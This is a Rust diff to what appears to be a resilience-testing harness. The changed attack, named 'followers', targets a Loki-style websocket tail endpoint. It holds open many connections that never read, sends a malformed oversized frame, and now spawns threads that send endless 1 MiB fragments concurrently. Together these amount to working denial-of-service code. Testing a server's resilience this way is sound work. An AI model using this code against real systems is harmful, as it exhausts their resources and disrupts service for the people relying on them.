@@ -3,6 +3,7 @@
 
 use std::io::Write;
 use std::net::TcpStream;
+use std::thread;
 
 use anyhow::Result;
 
@@ -15,7 +16,7 @@ pub static ATTACK: Attack =
     Attack { name: "followers", about: "tails that never read, and messages that never end", run };
 
 fn run(ground: &Ground<'_>) -> Result<()> {
-    let mut held = Vec::new();
+    let (mut held, mut endless) = (Vec::new(), Vec::new());
     let path = "/loki/api/v1/tail?query=%7Bjob%3D~%22.%2B%22%7D&limit=5000";
     let headers = [
         ("Connection", "Upgrade"),
@@ -33,10 +34,17 @@ fn run(ground: &Ground<'_>) -> Result<()> {
             let _ =
                 stream.write_all(&[0x82, 0xFF, 0x7F, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 1, 2, 3, 4]);
         } else if n % 4 == 1 {
-            endless(ground, &mut stream);
+            endless.push(stream);
+            continue;
         }
         held.push(stream);
     }
+    // At once: the server may be sending to each of them, which it does with patience.
+    thread::scope(|scope| {
+        for stream in &mut endless {
+            scope.spawn(|| send_without_end(ground, stream));
+        }
+    });
     let line = "0123456789".repeat(200);
     for _ in 0..ground.pick(20, 200) {
         ground.store_lines("followed", &vec![line.clone(); 500]);
@@ -45,7 +53,7 @@ fn run(ground: &Ground<'_>) -> Result<()> {
 }
 
 /// A message in fragments, none of which is the last, until the server takes no more.
-fn endless(ground: &Ground<'_>, stream: &mut TcpStream) {
+fn send_without_end(ground: &Ground<'_>, stream: &mut TcpStream) {
     const FRAGMENT: usize = 1 << 20;
     let fragments = ground.pick(8, 63);
     for number in 0..fragments {
